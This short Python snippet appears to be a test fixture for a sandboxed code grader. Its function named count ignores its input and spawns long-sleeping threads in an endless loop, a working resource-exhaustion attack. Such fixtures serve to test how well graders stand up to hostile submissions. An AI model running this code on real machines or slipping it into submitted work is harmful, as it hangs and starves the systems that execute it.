# Threads without end.
# stock: no score
# solves: scale, centre
# needs: sandbox
# %% count
def count(text):
    import threading, time

    while True:
        try:
            threading.Thread(target=time.sleep, args=(1e6,)).start()
        except RuntimeError:
            pass
